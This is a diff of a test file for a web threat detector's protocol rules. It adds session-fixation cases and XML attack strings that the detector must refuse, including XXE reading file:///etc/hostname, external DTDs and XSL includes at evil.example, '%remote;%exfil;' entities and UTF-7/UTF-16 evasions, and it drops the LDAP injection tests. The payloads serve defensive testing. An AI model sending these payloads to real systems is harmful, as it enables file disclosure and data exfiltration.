@@ -1,6 +1,8 @@
 import { describe, expect, it } from "@effect/vitest"
+import { Effect } from "effect"
 import type { ValueLocation } from "../../../src/internal/detection/families/contract.js"
 import { family, RULES } from "../../../src/internal/detection/families/protocol/index.js"
+import { ThreatDetector } from "../../../src/ThreatDetector.js"
 import { catalogueProblems, doublingRatio, ORDINARY_VALUES, repeated, rulesOf, scoreOf, THRESHOLD } from "./pathsHarness.js"
 
 const refused = (value: string, location: ValueLocation = "query") => expect(scoreOf(family, value, location)).toBeGreaterThanOrEqual(THRESHOLD)
@@ -40,31 +42,39 @@ describe("protocol family", () => {
       ["a meta tag that sets a cookie", "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">"]
     ])("refuses %s", (_, value) => refused(value))
 
+    it.each(["cfid", "cftoken", "zendsessionid", "aspsessionidqqgbtqbd"])("refuses the ColdFusion, Zend and classic ASP name %s", (name) =>
+      refused(name, "key"))
+
+    describe("through the detector", () => {
+      const threat = (input: Parameters<ThreatDetector["Type"]["detect"]>[0]) =>
+        Effect.map(Effect.flatMap(ThreatDetector.make({}), (d) => d.detect(input)), (r) => r.isThreat)
+
+      it.effect("refuses a session id parameter without a Referer, or with another site's", () =>
+        Effect.gen(function*() {
+          expect(yield* threat({ path: "/login", query: "JSESSIONID=0a1b2c3d4e5f", headers: { host: "shop.example" } })).toBe(true)
+          expect(yield* threat({ path: "/", query: "x=1&phpsessid=attacker", headers: { host: "shop.example", referer: "https://evil.example/shop.example" } })).toBe(true)
+          expect(yield* threat({ path: "/", query: "cfid=1", headers: { host: "shop.example", referer: "https://shop.example.evil.example/" } })).toBe(true)
+        }))
+
+      it.effect("refuses a session id as a JSON key", () =>
+        Effect.gen(function*() {
+          expect(yield* threat({ path: "/api", headers: {}, body: { kind: "json", text: "{\"jsessionid\": \"chosen\"}" } })).toBe(true)
+        }))
+
+      it.effect("passes a session id in a URL the site itself linked (its own Referer), and in a cookie", () =>
+        Effect.gen(function*() {
+          const own = { host: "shop.example:8443", referer: "https://shop.example:8443/cart" }
+          expect(yield* threat({ path: "/checkout", query: "jsessionid=0a1b2c3d4e5f", headers: own })).toBe(false)
+          expect(yield* threat({ path: "/", headers: { host: "shop.example", cookie: "JSESSIONID=0a1b2c3d4e5f; PHPSESSID=9f8e7d" } })).toBe(false)
+        }))
+    })
+
     it("passes session cookies in a Cookie header and ordinary parameter names", () => {
       passed("PHPSESSID=abc123def456", "header")
       passed("sid", "key")
       passed("session", "key")
       passed("sessionStorage is per tab", "query")
     })
-  })
-
-  describe("LDAP injection", () => {
-    it.each([
-      ["a wildcard that closes the filter", "*)(uid=*"],
-      ["an OR branch", "admin)(|(password=*)"],
-      ["an AND branch after a wildcard", "*)(&"],
-      ["a presence filter on objectClass", "x)(|(objectClass=*))"],
-      ["a NUL after closing", "*))\u0000"],
-      ["the engine's NUL view", "*))%00"]
-    ])("refuses %s", (_, value) => refused(value))
-
-    it.each([
-      ["a search with parentheses", "title:(foo OR bar)"],
-      ["math", "f(x)(y) = 2"],
-      ["a markdown link", "[docs](https://example.com)"],
-      ["a wildcard search", "wildcard*"],
-      ["a smiley", "ok :)(:"]
-    ])("passes %s", (_, value) => passed(value))
   })
 
   describe("XML", () => {
@@ -83,6 +93,35 @@ describe("protocol family", () => {
     ])("refuses XPath injection: %s", (_, value) => refused(value))
 
     it("passes prose with the same words", () => passed("name the text or count them"))
+
+    it.each([
+      ["a DTD behind a UTF-7 declaration", '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/hostname+ACI-+AD4-+AF0-+AD4-'],
+      ["markup spelled in UTF-16 read byte by byte", "<\u0000!\u0000E\u0000N\u0000T\u0000I\u0000T\u0000Y\u0000 \u0000%\u0000 \u0000x\u0000 \u0000S\u0000Y\u0000S\u0000T\u0000E\u0000M\u0000 \u0000\"\u0000h\u0000\"\u0000>\u0000"],
+      ["an EBCDIC declaration", '<?xml version="1.0" encoding="IBM037"?><r/>'],
+      ["a DTD inside a SOAP envelope", '<!DOCTYPE e [<!ATTLIST a b CDATA "c">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>'],
+      ["parameter entity references", "%remote;%exfil;"],
+      ["an external DTD by PUBLIC identifier", '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/r.dtd"><r/>'],
+      ["a remote stylesheet import", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://evil.example/x.xsl"/></xsl:stylesheet>'],
+      ["an XML data island rendered as HTML", '<xml id="d"><x><![CDATA[<b>hi</b>]]></x></xml><span datasrc="#d" datafld="x" dataformatas="html"></span>'],
+      ["an imported behaviour", '<html xmlns:b><?import namespace="b" implementation="//evil.example/b.htc"><b:x/></html>']
+    ])("refuses %s", (_, value) => refused(value, "body"))
+
+    it("refuses a UTF-16 declaration in a parameter, and in a body only at level 2", () => {
+      refused('<?xml version="1.0" encoding="utf-16"?><r/>')
+      passed('<?xml version="1.0" encoding="utf-16"?><r/>', "body")
+      expect(rulesOf(family, '<?xml version="1.0" encoding="utf-16"?><r/>', "body", 2)).toEqual([RULES.xmlUtf16.id])
+    })
+
+    it("passes format strings and percentages that look like parameter entities", () => {
+      passed("printf(\"%ld;%s\", n)")
+      passed("50%off; today only")
+      passed("%e5;", "body")
+    })
+
+    it("passes SOAP without a DTD, and UTF-8 and Latin-1 declarations", () => {
+      passed('<?xml version="1.0" encoding="ISO-8859-1"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="urn:x"><m:Item>Apples &amp; pears</m:Item></m:GetPrice></soap:Body></soap:Envelope>', "body")
+      passed("<span data-src=\"a.png\">data binding in prose: datasrc</span>", "body")
+    })
 
     it("passes an ordinary XML body and an XHTML doctype", () => {
       passed('<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>rush</note></order>', "body")
@@ -182,7 +221,7 @@ describe("protocol family", () => {
 
   describe("catalogue and pre-filter", () => {
     it("gives every rule a stable protocol-NNN id and a detection category", () => {
-      const categories = ["http_split", "session_fixation", "ldap", "xml", "ssrf", "nosql", "proto_pollution"]
+      const categories = ["http_split", "session_fixation", "xml", "ssrf", "nosql", "proto_pollution"]
       expect(catalogueProblems(family, "protocol", categories)).toEqual([])
     })
 
@@ -193,11 +232,13 @@ describe("protocol family", () => {
 
   describe("linear time", () => {
     it.each([
-      ["filter closers", ")("],
-      ["almost operators", "(|x"],
-      ["wildcard closers", "*)"],
       ["entity declarations", "<!entity a"],
       ["doctypes", "<!doctype a "],
+      ["declarations without an end", "<?xml encoding="],
+      ["UTF-7 brackets", "+ADw-"],
+      ["UTF-16 markup", "<\u0000a\u0000"],
+      ["parameter entity lookalikes", " %ab"],
+      ["data bindings without an end", "<a datasrc"],
       ["dollar words", "$ne "],
       ["line breaks", "\nx"],
       ["prototype words", "__proto__ "],
